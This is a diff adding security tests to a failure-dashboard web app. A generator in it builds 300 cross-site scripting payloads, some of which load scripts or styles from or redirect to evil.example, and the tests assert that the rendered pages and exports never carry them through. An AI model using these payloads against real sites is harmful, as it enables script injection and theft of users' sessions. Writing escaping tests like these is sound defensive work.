@@ -229,6 +229,182 @@ def test_hidden_characters_are_shown(tmp_path: Any, character: str):
     assert shown >= 9
 
 
+def _many() -> list[str]:
+    """Three hundred payloads: every way out of a text, with every element that runs a script."""
+    ways_out = (
+        "",
+        '">',
+        "'>",
+        "</title>",
+        "</textarea>",
+        "</script>",
+        "-->",
+        "]]>",
+        "</style>",
+        "&#62;",
+    )
+    elements = (
+        "<script>alert(1)</script>",
+        "<script src=//evil.example/x.js></script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+        "<body onload=alert(1)>",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<iframe src=javascript:alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src=x onerror=alert(1)>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<input autofocus onfocus=alert(1)>",
+        "<select autofocus onfocus=alert(1)>",
+        "<marquee onstart=alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href='java&#115;cript:alert(1)'>x</a>",
+        "<form action=//evil.example><button>x</button></form>",
+        "<button formaction=javascript:alert(1)>x</button>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>@import'//evil.example/x.css'</style>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<base href=//evil.example/>",
+        "<template><script>alert(1)</script></template>",
+        "<div style=background:url(javascript:alert(1))>x</div>",
+        "<x onclick=alert(1)>x</x>",
+    )
+    made = [way + element for way in ways_out for element in elements]
+    return list(dict.fromkeys([*made, *PAYLOADS]))[:300]
+
+
+def _store_many(engine: Engine, payloads: list[str]) -> None:
+    for start in range(0, len(payloads), 50):
+        events = [
+            {**event, "session_id": f"c-{start + index}"}
+            for index, text in enumerate(payloads[start : start + 50])
+            for event in _events(text)[:1]
+        ]
+        with write_transaction(engine) as conn:
+            project = ensure_project(conn, "hostile")
+            receipt = store_events(conn, project, events, received_at=NOW, time_policy="import")
+        assert receipt.accepted == len(events), receipt.rejected
+
+
+def _kinds(html: str) -> set[str]:
+    """Each kind of element with the names of its attributes."""
+    return {
+        f"{tag.name} {sorted(tag.attrs)}"
+        for tag in BeautifulSoup(html, "html.parser").find_all(True)
+    }
+
+
+def _addresses(html: str) -> set[str]:
+    soup = BeautifulSoup(html, "html.parser")
+    names = ("href", "src", "action", "formaction", "data", "xlink:href", "poster")
+    return {tag[name] for name in names for tag in soup.find_all(attrs={name: True})}
+
+
+LISTS = (
+    "/", "/failures", "/round-trips", "/codes", "/tools", "/messages", "/fix-next", "/changes",
+    "/live", "/views", "/rejected", "/settings",
+)  # fmt: skip
+EXPORTS = (
+    "/failures.csv", "/chains.csv", "/codes.csv", "/fields.csv", "/tools.csv", "/messages.csv",
+    "/fix-next.csv", "/api/v1/failures", "/api/v1/exports/failures.json",
+    "/api/v1/exports/failures.ndjson", "/api/v1/exports/issues.csv", "/api/v1/facets",
+)  # fmt: skip
+
+
+@pytest.mark.slow
+def test_three_hundred_payloads(tmp_path: Any):
+    """All at once, in every field: pages hold no element, attribute or address that is not ours."""
+    payloads = _many()
+    assert len(payloads) == 300
+    plain, hostile = tmp_path / "plain", tmp_path / "hostile"
+    plain.mkdir()
+    hostile.mkdir()
+    allowed: dict[str, set[str]] = {}
+    for folder, texts in ((plain, [f"{HARMLESS} {n}" for n in range(300)]), (hostile, payloads)):
+        engine = _engine(folder, HARMLESS)
+        _store_many(engine, texts)
+        with read_connection(engine) as conn:
+            scope = Scope(1, parse(""), NOW)
+            # Harmless texts all make the same page.
+            most = 10 if folder is plain else 400
+            shown = queries.failure_list(conn, scope, limit=most).rows
+        paths = {path: path for path in LISTS}
+        paths |= {f"/failures/{row.event_id}": "detail" for row in shown}
+        for browser in open_browser(engine):
+            for path, kind in paths.items():
+                answer = browser.client.get(path, params={"window": "all"})
+                assert answer.status_code == 200, path
+                assert "script-src 'self'" in answer.headers["content-security-policy"]
+                if folder is plain:
+                    allowed.setdefault(kind, set()).update(_kinds(answer.text))
+                    continue
+                assert _kinds(answer.text) <= allowed[kind] | {"wbr []"}, path
+                for address in _addresses(answer.text):
+                    assert address.startswith(("/", "#", "?")), f"{path}: {address}"
+                    assert not address.startswith("//"), f"{path}: {address}"
+            for path in EXPORTS:
+                answer = browser.client.get(
+                    path, params={"window": "all"} if "api" not in path else {}
+                )
+                assert answer.status_code == 200, path
+                assert "html" not in answer.headers["content-type"], path
+                assert answer.headers["x-content-type-options"] == "nosniff"
+        engine.dispose()
+
+
+NAMES = (
+    "a\x1b[31mb", "tab\there", "line\nbreak", "cr\rlf\n", "bell\x07", "low\x01\x02", "\u2028sep",
+    "\u202ertl", '"quoted"', "back\\slash", "back\\", "star*s", "comma,comma", "co:lon", "-minus",
+    "!not", "50%_off", " spaces around ", "a&b=c#d?e+f", "..", "/", "ü" * 200, "\ufeffmark", "\x7f",
+)  # fmt: skip
+
+
+def test_every_link_to_an_odd_name_works(tmp_path: Any):
+    """A tool or field may be called anything: what links to it finds it."""
+    engine = open_engine(f"sqlite:///{tmp_path / 'toolfault.db'}")
+    prepare(engine, migrate=True)
+    _store_many(engine, list(NAMES))
+    for browser in open_browser(engine):
+        seen: set[str] = set()
+        for page in ("/failures", "/codes", "/tools", "/round-trips", "/messages", "/fix-next"):
+            html = browser.client.get(page, params={"window": "all"}).text
+            seen |= {each for each in _addresses(html) if each.startswith("/") and "q=" in each}
+        assert len(seen) > 100
+        for address in sorted(seen):
+            assert browser.client.get(address).status_code == 200, address
+        for name in NAMES:
+            for query in (parse("").toggled("tool", name), parse("").toggled("field", name)):
+                answer = browser.client.get("/api/v1/failures", params={"q": str(query)})
+                assert answer.status_code == 200, (name, answer.text)
+                assert answer.json()["total"] == 1, (name, str(query))
+    engine.dispose()
+
+
+def test_long_text_is_cut_and_reachable(tmp_path: Any):
+    """The longest texts that are stored make no endless page: lists cut, the failure shows all."""
+    line, lines = "x" * 16_384, "a line of a traceback\n" * 2_900
+    event = _events(HARMLESS)[0]
+    event["error"] |= {"received": line, "snippet": line, "renderings": {"llm": line[:8_192]}}
+    event["error"]["exception"]["traceback"] = lines
+    engine = open_engine(f"sqlite:///{tmp_path / 'toolfault.db'}")
+    prepare(engine, migrate=True)
+    with write_transaction(engine) as conn:
+        project = ensure_project(conn, "hostile")
+        store_events(conn, project, [event], received_at=NOW, time_policy="import")
+    for browser in open_browser(engine):
+        for path in LISTS:
+            assert len(browser.client.get(path, params={"window": "all"}).text) < 200_000, path
+        detail = browser.client.get(f"/failures/{event['event_id']}").text
+        assert line in detail.replace("<wbr>", "")
+        assert detail.count("a line of a traceback") >= 2_900
+        assert len(detail) < 1_000_000
+    engine.dispose()
+
+
 def test_what_is_typed_into_the_box_stays_text(tmp_path: Any):
     """A query with markup comes back in the box and in errors as text."""
     engine = _engine(tmp_path, HARMLESS)
